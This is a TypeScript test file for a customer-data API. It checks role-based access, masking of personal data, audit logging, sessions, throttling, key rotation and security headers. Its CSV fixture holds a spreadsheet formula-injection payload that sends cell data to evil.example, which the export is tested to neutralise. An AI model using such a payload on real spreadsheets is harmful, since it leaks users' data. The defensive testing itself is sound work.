import assert from 'node:assert/strict';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import type { FastifyInstance } from 'fastify';
import { withTestDatabase } from '../../test/helpers/engine.js';
import { createKey, EventWriter, loadSources } from '../events/index.js';
import { resolveIdentities } from '../identity/index.js';
import { importFile } from '../ingest/index.js';
import {
  accessOf,
  createToken,
  createUser,
  disableUser,
  listAudit,
  ROLE_SCOPES,
  ROLES,
  ROUTE_ACCESS,
  type Role,
  verifyAudit,
} from '../security/index.js';
import { saveSegment } from '../segments/index.js';
import { openWarehouse, type Warehouse } from '../store/index.js';
import { registeredRoutes } from './access.js';
import { buildApp } from './app.js';

const ADMIN = 'the-admin-token-of-this-test';
const PASSWORD = 'a password long enough';

interface Ctx {
  app: FastifyInstance;
  db: Warehouse;
  dir: string;
  /** A bearer token per role (created as users of that role). */
  tokens: Record<Role, string>;
  writeKey: string;
}

async function withServer<T>(
  fn: (ctx: Ctx) => Promise<T>,
  seed?: (db: Warehouse, dir: string) => Promise<void>,
) {
  return withTestDatabase(async ({ location, dir }) => {
    const db = await openWarehouse(location);
    const writeKey = (await createKey(db, 'web')).key;
    const tokens = {} as Record<Role, string>;
    for (const role of ROLES) {
      await createUser(db, { name: `${role}-user`, role, password: PASSWORD });
      tokens[role] = (await createToken(db, { user: `${role}-user` })).token;
    }
    await seed?.(db, dir);
    const web = join(dir, 'web');
    await mkdir(web);
    await writeFile(join(web, 'index.html'), '<!doctype html><div id="root"></div>');
    const writer = await EventWriter.create(db);
    const app = await buildApp({
      db,
      writer,
      sources: await loadSources(db),
      adminToken: ADMIN,
      webRoot: web,
    });
    try {
      return await fn({ app, db, dir, tokens, writeKey });
    } finally {
      await app.close();
      await writer.close();
      await db.close();
    }
  });
}

const bearer = (t: string) => ({ authorization: `Bearer ${t}` });
const basic = (k: string) => ({ authorization: `Basic ${Buffer.from(`${k}:`).toString('base64')}` });

describe('the route × role matrix', () => {
  it('every registered route answers every role as src/security/routes.ts says (a route missing there cannot register)', async () => {
    await withServer(async ({ app, tokens, writeKey }) => {
      const routes = registeredRoutes(app).filter((r) => !r.startsWith('HEAD '));
      assert.ok(routes.length >= 60, `${routes.length} routes`);
      // @fastify/swagger-ui adds its pages without calling onRoute: walk them from the matrix.
      for (const r of Object.keys(ROUTE_ACCESS)) if (r.startsWith('GET /docs')) routes.push(r);
      const callers: [string, Record<string, string>, ReadonlySet<string> | 'writeKey' | null][] = [
        ['nobody', {}, null],
        ['write key', basic(writeKey), 'writeKey'],
        ['admin token', bearer(ADMIN), new Set(ROLE_SCOPES.admin)],
        ...ROLES.map(
          (role) =>
            [role, bearer(tokens[role]), new Set(ROLE_SCOPES[role])] as [
              string,
              Record<string, string>,
              ReadonlySet<string>,
            ],
        ),
      ];
      const problems: string[] = [];
      for (const route of routes) {
        const [method, url] = route.split(' ') as [string, string];
        const access = accessOf(method, url);
        assert.ok(access, `${route} is in the matrix`);
        const path = url
          .replace(':id', '1')
          .replace(/:(name|segment)/, 'nosuch')
          .replace(':format', 'svg')
          .replace('*', 'somewhere');
        for (const [who, headers, scopes] of callers) {
          const r = await app.inject({
            method: method as 'GET',
            url: path,
            headers: {
              ...headers,
              ...(method === 'GET' || method === 'DELETE' ? {} : { 'content-type': 'application/json' }),
            },
            ...(method === 'GET' || method === 'DELETE' ? {} : { payload: '{}' }),
          });
          const code = String(r.headers['content-type'] ?? '').includes('json')
            ? r.json()?.error?.code
            : undefined;
          let expected: string;
          if (access.need === 'public') expected = 'through';
          else if (access.need === 'writeKey')
            expected = scopes === 'writeKey' ? 'through' : 'CLT_ERR_API_UNAUTHORIZED';
          else if (scopes === null || scopes === 'writeKey') expected = 'CLT_ERR_API_FORBIDDEN';
          else expected = scopes.has(access.need) ? 'through' : 'CLT_ERR_API_SCOPE';
          const got =
            code === 'CLT_ERR_API_FORBIDDEN' ||
            code === 'CLT_ERR_API_SCOPE' ||
            code === 'CLT_ERR_API_UNAUTHORIZED'
              ? code
              : 'through';
          const status = {
            CLT_ERR_API_FORBIDDEN: 403,
            CLT_ERR_API_SCOPE: 403,
            CLT_ERR_API_UNAUTHORIZED: 401,
          }[expected];
          if (got !== expected || (status !== undefined && r.statusCode !== status) || r.statusCode >= 500)
            problems.push(`${route} as ${who}: expected ${expected}, got ${r.statusCode} ${code ?? ''}`);
        }
      }
      assert.deepEqual(problems, []);
    });
  });

  it('names the scope a role lacks: a viewer cannot save a segment, an analyst cannot manage keys', async () => {
    await withServer(async ({ app, tokens }) => {
      const r = await app.inject({
        method: 'POST',
        url: '/v1/segments',
        headers: bearer(tokens.viewer),
        payload: { name: 'x', where: 'orders > 1' },
      });
      assert.equal(r.statusCode, 403);
      assert.equal(r.json().error.code, 'CLT_ERR_API_SCOPE');
      assert.match(r.json().error.message, /needs the write scope; viewer-user \(viewer\) has read/);
      const keys = await app.inject({ url: '/v1/admin/keys', headers: bearer(tokens.analyst) });
      assert.equal(keys.statusCode, 403);
    });
  });
});

// Customers whose fields look like formulas, to show the export neutralises them.
const CUSTOMERS = `customer_id,email,phone,first_name,last_name,country
c1,ann@shop.de,+49 170 1234567,Ann,Smith,DE
c2,bob@shop.de,+49 170 7654321,=HYPERLINK("http://evil.example/?"&A1;"open"),@SUM(1+1),DE
c3,cy@shop.de,+49 170 5550000,-2+3,+Tab,DE
`;

async function seedPeople(db: Warehouse, dir: string): Promise<void> {
  await writeFile(join(dir, 'customers.csv'), CUSTOMERS);
  await importFile(db, join(dir, 'customers.csv'), { kind: 'customers' });
  await resolveIdentities(db);
  await saveSegment(db, 'everyone', "country = 'DE'");
}

describe('masking and the audit log', () => {
  it('without the pii scope, profiles, members and exports show masked personal fields; with it, as they are; unmasked reads and exports are audited', async () => {
    await withServer(async ({ app, db, tokens }) => {
      const get = (url: string, role: Role) => app.inject({ url, headers: bearer(tokens[role]) });
      const analyst = (await get('/v1/profiles?q=ann', 'analyst')).json();
      const marketer = (await get('/v1/profiles?q=ann', 'marketer')).json();
      assert.equal(marketer.profiles[0].email, 'ann@shop.de');
      assert.equal(analyst.profiles[0].email, 'a***@shop.de');
      assert.equal(analyst.profiles[0].firstName, 'A***');
      assert.equal(analyst.total, 1, 'the figures stay');

      const one = (await get('/v1/profiles/ann@shop.de', 'viewer')).json();
      assert.ok(!JSON.stringify(one).includes('ann@shop.de'), 'no plain e-mail in a masked profile');
      assert.ok(!JSON.stringify(one).includes('1234567'), 'no plain phone');
      assert.ok(one.identities.some((i: { value: string }) => i.value === 'a***@shop.de'));

      const members = (await get('/v1/segments/everyone/members', 'analyst')).json();
      assert.ok(
        !JSON.stringify(members).includes('@shop.de') || !JSON.stringify(members).includes('ann@'),
        JSON.stringify(members),
      );

      const plainCsv = (await get('/v1/segments/everyone/export?format=csv', 'marketer')).body;
      const maskedCsv = (await get('/v1/segments/everyone/export?format=csv', 'analyst')).body;
      assert.match(plainCsv, /ann@shop\.de/);
      assert.match(plainCsv, /,\+491701234567,/, 'an E.164 phone is a plain number: left as it is');
      assert.doesNotMatch(maskedCsv, /ann@shop\.de|1234567|Smith/);
      assert.match(maskedCsv, /a\*\*\*@shop\.de/);
      // Formula cells get a leading quote; numbers stay numbers.
      assert.match(plainCsv, /"'=HYPERLINK\(/);
      assert.match(plainCsv, /'@SUM\(1\+1\)/);
      assert.match(plainCsv, /'-2\+3/);
      assert.match(plainCsv, /'\+Tab/);
      for (const line of plainCsv.split('\n').slice(1).filter(Boolean))
        assert.doesNotMatch(
          line,
          /(^|,)([=@]|[+-](?![0-9.]+(,|$)))/,
          `no cell starts with a formula sign: ${line}`,
        );

      const viewerExport = await get('/v1/segments/everyone/export?format=csv', 'viewer');
      assert.equal(viewerExport.statusCode, 403, 'a viewer has no export scope');

      const log = await listAudit(db);
      const reads = log.filter((e) => e.action === 'read-personal');
      assert.ok(reads.some((e) => e.actor === 'marketer-user' && e.target === '/v1/profiles'));
      assert.ok(
        !reads.some((e) => e.actor === 'analyst-user'),
        'masked reads disclose nothing: not audited as reads',
      );
      const exports = log.filter((e) => e.action === 'export');
      assert.deepEqual(
        exports.map((e) => [e.actor, e.details?.masked]),
        [
          ['marketer-user', false],
          ['analyst-user', true],
        ],
      );
      assert.equal(exports[0]?.origin, '127.0.0.1');
      assert.equal((await verifyAudit(db)).ok, true);
    }, seedPeople);
  });
});

describe('sessions, tokens and keys', () => {
  it('signs in with a password or the admin token into an httpOnly SameSite=Strict cookie, and out again', async () => {
    await withServer(async ({ app, db }) => {
      const wrong = await app.inject({
        method: 'POST',
        url: '/v1/session',
        payload: { name: 'analyst-user', password: 'not the password' },
      });
      assert.equal(wrong.statusCode, 401);
      assert.equal(wrong.json().error.code, 'CLT_ERR_API_SIGN_IN');
      const ok = await app.inject({
        method: 'POST',
        url: '/v1/session',
        payload: { name: 'analyst-user', password: PASSWORD },
      });
      assert.equal(ok.statusCode, 200);
      assert.deepEqual(ok.json(), {
        signedIn: true,
        name: 'analyst-user',
        role: 'analyst',
        scopes: ['read', 'write', 'export'],
      });
      const setCookie = String(ok.headers['set-cookie']);
      assert.match(
        setCookie,
        /^clientele_session=[\w-]{40,}; Path=\/; HttpOnly; SameSite=Strict; Max-Age=86400$/,
      );
      const cookie = setCookie.split(';')[0]!;
      assert.equal((await app.inject({ url: '/v1/overview', headers: { cookie } })).statusCode, 200);
      assert.deepEqual(
        (await app.inject({ url: '/v1/session', headers: { cookie } })).json().name,
        'analyst-user',
      );
      // A change sent from another site's page is refused even with the cookie.
      const foreign = await app.inject({
        method: 'POST',
        url: '/v1/segments/preview',
        headers: { cookie, origin: 'https://evil.example', host: 'localhost:80' },
        payload: { where: 'orders > 1' },
      });
      assert.equal(foreign.statusCode, 403);
      const out = await app.inject({ method: 'DELETE', url: '/v1/session', headers: { cookie } });
      assert.match(String(out.headers['set-cookie']), /Max-Age=0/);
      assert.equal((await app.inject({ url: '/v1/overview', headers: { cookie } })).statusCode, 403);

      const admin = await app.inject({ method: 'POST', url: '/v1/session', payload: { token: ADMIN } });
      assert.equal(admin.json().role, 'admin');
      const adminCookie = String(admin.headers['set-cookie']).split(';')[0]!;
      assert.equal(
        (await app.inject({ url: '/v1/admin/keys', headers: { cookie: adminCookie } })).statusCode,
        200,
      );

      // Disabling a user ends their open session.
      const again = await app.inject({
        method: 'POST',
        url: '/v1/session',
        payload: { name: 'viewer-user', password: PASSWORD },
      });
      const viewerCookie = String(again.headers['set-cookie']).split(';')[0]!;
      await disableUser(db, 'viewer-user');
      assert.equal(
        (await app.inject({ url: '/v1/overview', headers: { cookie: viewerCookie } })).statusCode,
        403,
      );

      const actions = (await listAudit(db)).map((e) => `${e.action}:${e.actor}`);
      assert.deepEqual(actions, [
        'sign-in-failed:analyst-user',
        'sign-in:analyst-user',
        'sign-out:analyst-user',
        'sign-in:admin-token',
        'sign-in:viewer-user',
      ]);
    });
  });

  it('throttles password guessing: after five failures the next attempt answers 429 with Retry-After', async () => {
    await withServer(async ({ app }) => {
      const attempt = (password: string) =>
        app.inject({ method: 'POST', url: '/v1/session', payload: { name: 'analyst-user', password } });
      for (let i = 0; i < 5; i++) assert.equal((await attempt('wrong password, no')).statusCode, 401);
      const refused = await attempt(PASSWORD);
      assert.equal(refused.statusCode, 429);
      assert.equal(refused.json().error.code, 'CLT_ERR_API_SIGN_IN_THROTTLED');
      assert.ok(Number(refused.headers['retry-after']) >= 1);
    });
  });

  it('a token limited to some scopes, or expired, is refused where it falls short', async () => {
    await withServer(async ({ app, db }) => {
      const readOnly = await createToken(db, { user: 'admin-user', scopes: 'read', days: 30 });
      assert.equal(
        (await app.inject({ url: '/v1/overview', headers: bearer(readOnly.token) })).statusCode,
        200,
      );
      const keys = await app.inject({ url: '/v1/admin/keys', headers: bearer(readOnly.token) });
      assert.equal(keys.json().error.code, 'CLT_ERR_API_SCOPE');
      await db.run(
        "UPDATE api_tokens SET expires_at = current_timestamp - INTERVAL '1 second' WHERE token_id = ?",
        [readOnly.id],
      );
      const expired = await app.inject({ url: '/v1/overview', headers: bearer(readOnly.token) });
      assert.equal(expired.statusCode, 403);
      assert.match(expired.json().error.message, /token expired/);
    });
  });

  it('write keys can be rotated (the old one stops at once) and revoked', async () => {
    await withServer(async ({ app, writeKey }) => {
      const track = (key: string) =>
        app.inject({
          method: 'POST',
          url: '/v1/track',
          headers: basic(key),
          payload: { event: 'x', userId: 'u1' },
        });
      assert.equal((await track(writeKey)).statusCode, 200);
      const rotated = await app.inject({
        method: 'POST',
        url: '/v1/admin/keys/web/rotate',
        headers: bearer(ADMIN),
      });
      assert.equal(rotated.statusCode, 200, rotated.body);
      const fresh = rotated.json().key as string;
      assert.notEqual(fresh, writeKey);
      assert.equal((await track(writeKey)).statusCode, 401);
      assert.equal((await track(fresh)).statusCode, 200);
      const revoked = await app.inject({
        method: 'POST',
        url: '/v1/admin/keys/web/revoke',
        headers: bearer(ADMIN),
      });
      assert.equal(revoked.statusCode, 200);
      assert.equal((await track(fresh)).statusCode, 401);
      const listed = await app.inject({ url: '/v1/admin/keys', headers: bearer(ADMIN) });
      assert.deepEqual(listed.json(), []);
      const again = await app.inject({
        method: 'POST',
        url: '/v1/admin/keys/web/revoke',
        headers: bearer(ADMIN),
      });
      assert.equal(again.json().error.code, 'CLT_ERR_API_KEY_NOT_FOUND');
    });
  });

  it('serves the web app with a strict CSP and every answer with nosniff, no referrer and no framing', async () => {
    await withServer(async ({ app }) => {
      const page = await app.inject({ url: '/' });
      assert.equal(page.statusCode, 200);
      const csp = String(page.headers['content-security-policy']);
      assert.match(csp, /default-src 'self'/);
      assert.match(csp, /script-src 'self'(;|$)/);
      assert.match(csp, /frame-ancestors 'none'/);
      assert.doesNotMatch(csp, /unsafe-eval/);
      for (const r of [
        page,
        await app.inject({ url: '/health' }),
        await app.inject({ url: '/v1/overview' }),
      ]) {
        assert.equal(r.headers['x-content-type-options'], 'nosniff');
        assert.equal(r.headers['referrer-policy'], 'no-referrer');
        assert.equal(r.headers['x-frame-options'], 'DENY');
        assert.match(String(r.headers['content-security-policy']), /frame-ancestors 'none'/);
      }
      assert.equal(
        (await app.inject({ url: '/health' })).headers['content-security-policy'],
        "default-src 'none'; frame-ancestors 'none'",
      );
    });
  });
});
